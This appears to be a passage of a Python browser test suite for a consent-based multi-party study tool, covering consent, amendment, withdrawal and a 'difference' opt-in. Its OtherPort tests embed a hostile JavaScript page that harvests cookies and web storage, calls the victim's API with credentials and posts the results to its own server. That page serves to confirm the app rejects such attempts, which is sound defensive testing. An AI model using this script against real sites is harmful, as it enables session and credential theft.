        self.assertEqual(self.see("consent-given", "consent given"), {"Withdraw"})
        self.assertEqual(self.badge(), ("consent given", True))
        self.check_done({0: process, 1: self.join(1), 2: self.join(2)})
        self.assertEqual(self.see("ended", "charge (charged)"), set())  # nothing is left to withdraw from
        self.assertEqual(self.badge(), ("ended", False))

    def test_of_exact_sums(self):
        self.study(title="Who falls ill", method="estimate", set="{}", epsilon=None, **{"lambda": 0.01})
        self.coordinator()
        self.check_done({party: self.join(party, *EXACT) for party in range(3)}, charged=[])
        self.see("ended-exact", "Exact answers have left")

    def test_of_a_study_that_is_amended_and_one_withdrawn_from(self):
        self.study(title="Who falls ill")
        self.coordinator()
        party = self.join(0)
        self.succeed("study", "amend", self.folder, self.definition(title="Who falls ill again", epsilon=1))
        self.assertEqual(party.finish(), 3, party.text())
        self.assertEqual(self.see("amended", "A new version"), {"Withdraw", "Consent to this version"})
        self.assertEqual(self.badge(), ("amended: no consent to the new version", False))
        self.press("button.consent.next")
        self.wait(lambda: "A new version" not in self.text(), "no consent")
        self.press("button.withdraw")
        self.assertEqual(self.see("withdrawn", "withdrawal"), {"Consent again"})
        self.assertEqual(self.badge(), ("withdrawn", False))


class Difference(BrowserTest):
    """Sums of two groups that differ by few are allowed by a tick of their own, not by consenting."""

    def settings(self, party):
        return json.loads((next((self.home(party) / "studies").glob("trial@*")) / "settings.json").read_text())

    def look_again(self, party):
        self.browser.get(self.start("page", home=self.home(party)).wait_line(LINK).group(1))
        self.wait_text("sums of two groups will be known")
        self.wait_text("This party refuses such a sum unless you allow it")
        box = self.one("input.difference")
        self.assertFalse(box.is_selected())
        self.assertIn("Allow it: sums of two groups may become known that differ by one party", self.text())
        return box

    def consent(self):
        self.press("button.consent.next")
        self.wait(lambda: "Another look" not in self.text(), "no consent")

    def test_an_owner_allows_a_difference_by_a_tick_of_its_own(self):
        self.study(method="estimate", set=None, epsilon=None, stop="{se: {column: age, at_most: 1e-9}, looks: 2}", **{"lambda": 0})
        coordinator = self.coordinator()
        first = {party: self.join(party, *EXACT) for party in range(3)}
        coordinator.wait_line("study trial recruits again")
        for process in first.values():
            self.assertEqual(process.finish(), 3, process.text())
        self.look_again(0).click()
        self.consent()
        self.assertTrue(self.settings(0)["allow_difference"])
        self.look_again(1)
        self.consent()
        self.assertFalse(self.settings(1)["allow_difference"])
        self.check_quiet()


# What a hostile page on another port of this machine can do in the same browser: ask the victim's port with whatever the browser adds,
# open it, and tell its own server what came back.
HOSTILE = """<!doctype html><title>other</title><script>
const victim = "VICTIM";
const tell = body => fetch("/told", { method: "POST", body: JSON.stringify(body) });
const ask = (path, how) => fetch(victim + path, { credentials: "include", ...how }).then(reply => reply.text(), String);
(async () => {
  const told = [document.cookie, Object.entries(sessionStorage), Object.entries(localStorage)];
  for (const path of ["/v1/session", "/v1/studies", "/v1/events"]) told.push(await ask(path));
  for (const path of ["CHANGE", "/v1/session"]) {
    told.push(await ask(path, { method: "POST", mode: "no-cors" }));
    told.push(await ask(path, { method: "POST", headers: { Authorization: "Bearer " } }));
  }
  const opened = window.open(victim);
  try { told.push(Object.entries(opened.sessionStorage)); } catch (problem) { told.push(String(problem)); }
  await tell(told);
  await fetch("/done");
})();
</script>"""


class OtherPort(BrowserTest):
    """Cookies ignore ports, so the browser hands those of one port of a host to a listener on any other."""

    def heard_next_door(self, page, change):
        """What a program on another port gets of a browser that is logged in."""
        html = HOSTILE.replace("VICTIM", f"http://127.0.0.1:{page.port}").replace("CHANGE", change)
        neighbour = Neighbour(html)
        self.addCleanup(neighbour.close)
        self.browser.switch_to.new_window("tab")
        self.browser.get(neighbour.address)
        heard = neighbour.wait("/done")
        self.assertIn("/told", [one["path"] for one in heard])
        return heard

    def check_worthless(self, page, heard, path, change):
        """Nothing that was heard, however it is presented, opens or changes anything."""
        cookies = "; ".join(value for one in heard for name, value in one["headers"] if name.lower() == "cookie")
        self.assertEqual(page.ask("GET", path, Cookie=cookies)[0], 401, "the cookies that the other port was sent open the page")
        for piece in pieces(heard) | {""}:
            for headers in ({"Authorization": f"Bearer {piece}"}, {"Cookie": f"tacit_{page.port}={piece}"}):
                self.assertEqual(page.ask("GET", path, **headers)[0], 401, headers)
                self.assertIn(page.ask("POST", change, **headers)[0], (401, 403), headers)

    def test_a_listener_on_another_port_cannot_drive_the_dashboard(self):
        self.study(title="Who falls ill")
        coordinator = self.coordinator("--dashboard", "0")
        self.browser.get(coordinator.wait_line(LINK).group(1))
        self.wait_text("recruiting")
        page = Page(coordinator)
        heard = self.heard_next_door(page, "/v1/studies/trial/pause")
        self.check_worthless(page, heard, "/v1/studies", "/v1/studies/trial/pause")
        self.assertEqual(self.status()["state"], "recruiting")

    def test_a_listener_on_another_port_cannot_withdraw_or_consent(self):
        self.study(title="Who falls ill")
        self.coordinator()
        self.join(0)
        process = self.start("page", home=self.home(0))
        self.browser.get(process.wait_line(LINK).group(1))
        self.wait_text("consent given")
        page, change = Page(process), "/v1/party/studies/trial/withdraw"
        heard = self.heard_next_door(page, change)
        self.check_worthless(page, heard, "/v1/party/studies", change)
        self.browser.switch_to.window(self.browser.window_handles[0])
        self.browser.refresh()  # the session outlives a reload of its own tab
        self.wait_text("consent given")


if __name__ == "__main__":
    if MISSING:
        print("skipped, no browser to test with: " + ", ".join(MISSING) + " missing (script/setup --full installs them)")
        sys.exit(77)  # meson's word for it
    unittest.main(verbosity=2)
